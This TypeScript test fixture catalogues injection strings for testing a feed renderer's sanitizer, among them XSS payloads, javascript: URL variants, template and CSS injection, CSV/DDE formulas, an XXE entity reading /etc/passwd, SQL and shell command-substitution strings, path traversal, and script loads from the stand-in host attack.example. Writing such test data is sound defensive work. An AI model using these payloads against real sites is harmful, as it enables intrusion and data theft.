/**
 * Texts as attackers put them into feeds, by the classes of the public cheat sheets (OWASP XSS filter evasion, CSV and
 * template injection, Trojan Source, Unicode security). Whatever of them runs sets `wasHacked`, or asks `attack.example`.
 */

/** A text, and the class it belongs to. */
export interface Attack {
  readonly kind: string;
  readonly text: string;
}

const act = 'window.wasHacked=true';

/** What closes the place that a text stands in. */
const breakouts = ['', '"', "'", '">', "'>", '`>', '-->', ']]>', '</title>', '</style>', '</script>', '</textarea>', '</template>', '</svg>'];
const active = [
  `<script>${act}</script>`, `<ScRiPt src=//attack.example/x.js></sCrIpT>`, `<img src=x onerror=${act}>`, `<svg/onload=${act}>`, `<svg><script>${act}</script></svg>`, `<body onload=${act}>`,
  `<iframe srcdoc="<script>parent.wasHacked=true</script>">`, `<details open ontoggle=${act}>x</details>`, `<input autofocus onfocus=${act}>`, `<video><source onerror=${act}></video>`, `<math><mtext></p><img src=x onerror=${act}>`,
  `<a href="javascript:${act}">x</a>`, `<form action="javascript:${act}"><button>x</button></form>`, `<meta http-equiv=refresh content="0;url=javascript:${act}">`, `<base href="//attack.example/">`,
  `<link rel=stylesheet href=//attack.example/x.css>`, `<style>*{display:none!important}</style>`, `<x style="position:fixed;inset:0" onmouseover=${act}>`, `<template shadowrootmode=open><script>${act}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
];
const attributes = [`" onmouseover="${act}" x="`, `' autofocus onfocus='${act}`, `" style="position:fixed;inset:0" x="`, `x onclick=${act} `, '" hidden="', '" id="technopole" name="x'];
const schemes = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', '\u0001javascript:', ' javascript:', '&#106;avascript:', 'javascript&colon;', 'data:text/html,', 'data:text/html;base64,', 'vbscript:', 'blob:', 'filesystem:', 'view-source:javascript:', 'javascript://attack.example/%0a'];
const markdown = [...schemes.flatMap((scheme) => [`[x](${scheme}${act})`, `<${scheme.trim()}${act}>`]), `![x](javascript:${act})`, `![x](https://attack.example/x.png "onerror=${act}")`, `[x][y]\n\n[y]: javascript:${act}`, `[x](<javascript:${act}>)`, `[x](https://attack.example "\\" onmouseover=${act}")`, '    <b>x</b>', '```html\n<b>x</b>\n```'];
const templates = ['{{7*7}}', `{{constructor.constructor('${act}')()}}`, '${7*7}', '#{7*7}', '<%= 7*7 %>', '{%raw%}', '<!--?lit$123456789$-->', '<!--lit-part-->', '<?lit$123456789$?>', '{{lit-123456789}}', '[[x]]', '$&$1$`', '%s%n%d', '{title}{count}{at}'];
const styles = ['red;}*{display:none', `red;background:url(//attack.example/x)`, `expression(${act})`, '@import "//attack.example/x.css";', '\\3c script\\3e', 'var(--technopole-accent)', '/*', '*/'];
const bidi = ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069', '\u200e', '\u200f', '\u061c'].flatMap((mark) => [`${mark}annulé`, `a${mark}b مرحبا 12`, mark.repeat(60)]);
const controls = [...Array.from({ length: 32 }, (_, code) => code), ...Array.from({ length: 33 }, (_, index) => 0x7f + index), 0xad, 0x200b, 0x2028, 0x2029, 0xfeff, 0xfffd, 0xfffe, 0xffff, 0xd800, 0xdfff].map((code) => `a${String.fromCharCode(code)}b`);
const encodings = ['%3Cscript%3E', '&lt;script&gt;', '&amp;lt;script&amp;gt;', '&#x3c;script&#62;', '\\u003cscript\\u003e', '+ADw-script+AD4-', '＜script＞', '‹script›', '%00', '\u00c0\u00bcscript', `<scr\u0000ipt>${act}</script>`, `<img/src/onerror=${act}>`, '<\u2028script>'];
const lines = ['a\r\nEND:VEVENT\r\nBEGIN:VEVENT', 'a\r\nX-EVIL:1', 'a\nATTENDEE:mailto:x@attack.example', 'a\r\n\r\n<html>', 'a\nBcc: x@attack.example', 'END:VCARD', ';VALUE=URI:javascript:x', '\\n\\,\\;'];
const formulas = ['=HYPERLINK("https://attack.example","x")', "=cmd|'/C calc'!A0", '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '\r=1+1', '＝1+1', '"=1+1'];
const data = [`";${act}//`, `'-${act}-'`, `\`;${act}//`, `</script><script>${act}</script>`, `<!--<script>`, `{"@context":"https://attack.example"}`, `\\";${act}//`, '<![CDATA[x]]>', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;', '<?xml version="1.0"?>'];
const names = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', 'then', 'null', 'undefined', 'NaN', '[object Object]'];
const systems = ["'; DROP TABLE sessions; --", '$(touch /tmp/hacked)', '`touch /tmp/hacked`', '../../../../etc/passwd', '..\\..\\x', 'CON', '/', '.', '..', '%2e%2e%2f', 'x'.repeat(300)];
const sizes = ['W'.repeat(2_000), 'a\u0301\u0323\u0489'.repeat(300), '👩🏽‍🚀'.repeat(100), ' '.repeat(5_000), '\n'.repeat(2_000), '*'.repeat(1_000), '['.repeat(1_000), '> '.repeat(500), '\u3164', '\u2800', '\u{e0041}\u{e0042}', 'ﷺ'.repeat(60), '𒐫'.repeat(60)];

const byKind: Readonly<Record<string, readonly string[]>> = { markup: active.flatMap((text) => breakouts.map((breakout) => breakout + text)), attributes, markdown, templates, styles, bidi, controls, encodings, lines, formulas, data, names, systems, sizes };

export const attacks: readonly Attack[] = Object.entries(byKind).flatMap(([kind, texts]) => [...new Set(texts)].map((text) => ({ kind, text })));

/** Addresses that never may become links. */
export const evilAddresses: readonly string[] = [...schemes.map((scheme) => scheme + act), '//attack.example/x', 'https:attack.example', 'http://user:secret@', 'https://[x/', 'ftp://attack.example/x', 'ms-msdt:/id', 'intent://x#Intent;end', 'mailto:?bcc=x@attack.example\r\nSubject:x', 'tel:*21*1#;javascript:x'];
